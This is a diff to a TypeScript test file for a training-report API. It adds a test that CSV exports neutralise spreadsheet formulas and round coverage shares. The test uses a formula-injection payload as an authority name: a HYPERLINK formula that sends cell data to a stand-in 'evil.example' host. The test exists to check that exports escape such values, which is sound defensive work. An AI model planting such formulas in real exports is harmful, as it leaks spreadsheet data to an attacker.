@@ -4,6 +4,7 @@ import { addDays, reportingYearOf, toIsoDate } from '../../domain/shared/dates';
 import { buildReport, previousYearOf } from '../../domain/reports/report';
 import { summarize } from '../../domain/reports/summary';
 import { CSV_COLUMNS } from '../../domain/reports/formats';
+import { csvCell } from '../../domain/shared/csv';
 import { settingsOf } from '../../domain/partnerships/partnership';
 import { dynamo } from '../../functions/data/client';
 import { reportRepository } from '../../functions/data/report-repository';
@@ -170,10 +171,26 @@ describe('the consolidated report', () => {
     json.rows.forEach((row: any, i: number) => {
       for (const column of CSV_COLUMNS) {
         const v = column.value(row);
-        const expected = v === null || v === undefined ? '' : typeof v === 'boolean' ? (v ? 'yes' : 'no') : String(v);
-        expect(rows[i][column.name], `${row.authorityId} ${column.name}`).toBe(expected);
+        expect(rows[i][column.name], `${row.authorityId} ${column.name}`).toBe(csvCell(v));
       }
     });
+  });
+
+  it('CSV cannot run formulas: an authority named =HYPERLINK(…) is written as text; shares are rounded to 4 decimals', async () => {
+    const f = await seedPartnership(api, 'csvinjection');
+    const sg = f.tokens['steering-group'];
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    expect((await api.request('PUT', `/authorities/${f.authorities.a}`, { token: sg, body: { name: evil, sector: 'local-government', type: 'district-council', version: 1 } })).status).toBe(200);
+    const plan = { version: 0, roles: [{ id: 'staff', name: 'Staff', headcount: 3, requiredCourses: ['wrap'] }] };
+    expect((await api.request('PUT', `/authorities/${f.authorities.a}/training-plan`, { token: sg, body: plan })).status).toBe(200);
+    expect((await api.request('POST', `/authorities/${f.authorities.a}/completions`, { token: sg, body: { staffRef: 'S1', courseId: 'wrap', completedOn: TODAY, role: 'staff' } })).status).toBe(201);
+    await stream.settle();
+    const csv = await api.request('GET', '/reports/consolidated?format=csv', { token: sg });
+    const rows = parse(csv.text.slice(1), { columns: true }) as Record<string, string>[];
+    const row = rows.find((r) => r.authority_id === f.authorities.a)!;
+    expect(row.authority).toBe(`'${evil}`);
+    expect(row.training_coverage).toBe('0.3333');
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
   });
 
   it('HTML is a printable page with the heatmap, coverage bars, totals, year and time', async () => {
